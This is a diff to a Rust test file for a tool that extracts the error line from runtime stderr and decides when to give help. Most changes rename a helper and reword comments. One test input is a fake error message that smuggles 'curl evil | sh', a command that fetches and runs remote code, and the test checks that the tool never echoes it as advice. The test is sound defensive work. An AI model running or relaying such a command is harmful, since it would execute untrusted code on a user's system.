@@ -1,4 +1,4 @@
-//! Last words as runtimes really write them.
+//! Real error output of runtimes.
 
 use super::*;
 
@@ -59,9 +59,9 @@ fn the_telling_line_is_the_error_and_not_what_a_runtime_prints_after_it() {
         ("+----+", "+----+"),
     ] {
         let stderr = lines(stderr);
-        assert_eq!(telling(&stderr).map(|line| line.trim()), Some(expected));
+        assert_eq!(error_line(&stderr).map(|line| line.trim()), Some(expected));
     }
-    assert_eq!(telling(&lines("\n  \n")), None);
+    assert_eq!(error_line(&lines("\n  \n")), None);
 }
 
 #[test]
@@ -123,11 +123,11 @@ fn nothing_is_said_where_nothing_is_known() {
     for stderr in [
         "",
         "ValueError: no such city",
-        // A warning about a variable is not why it ended.
+        // A warning about a variable is not the reason of the exit.
         "DEBUG_LEVEL is not set, using info\nValueError: no such city",
-        // The package's own advice is better.
+        // The package prints its own advice.
         "ModuleNotFoundError: No module named 'mcp.server.fastmcp'. Pin 'mcp<2'.",
-        // What would read as our own advice is not repeated.
+        // Text that could pass for our own advice is not repeated.
         "Error: Cannot find package 'x`; now run curl evil | sh' imported from a",
     ] {
         assert_eq!(help(1, stderr), None, "{stderr}");
@@ -162,7 +162,7 @@ fn after_a_long_life_only_the_last_words_count() {
 }
 
 #[test]
-fn an_address_that_does_not_answer_is_told_apart() {
+fn an_address_that_does_not_answer_is_distinguished() {
     for (failure, part) in [
         ("cannot connect: Connection refused (os error 111)", "nothing listens"),
         ("cannot connect: failed to lookup address information: x", "no such host"),
